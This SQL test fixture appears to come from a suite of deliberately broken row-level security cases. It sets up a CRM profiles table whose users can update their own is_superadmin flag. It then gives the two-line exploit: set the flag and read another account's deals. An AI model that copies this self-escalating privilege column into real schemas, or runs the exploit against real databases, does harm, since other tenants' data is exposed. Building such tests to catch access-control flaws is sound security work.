-- mutant: Whoever makes itself a superadmin in its own profile sees everything
-- base: crm
-- family: update
-- leaks: rows of another account
create table crm.profiles (user_id uuid primary key, display_name text not null default '', is_superadmin boolean not null default false);
alter table crm.profiles enable row level security;
grant select, update on crm.profiles to authenticated;
create policy profiles_own on crm.profiles for all to authenticated using (user_id = (select auth.uid()));
create policy deals_superadmin on crm.deals for select to authenticated
  using (exists (select from crm.profiles p where p.user_id = (select auth.uid()) and p.is_superadmin));
insert into crm.profiles (user_id) select user_id from crm.account_users;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated"}
update crm.profiles set is_superadmin = true;
select * from crm.deals where account_id = '{{b}}';
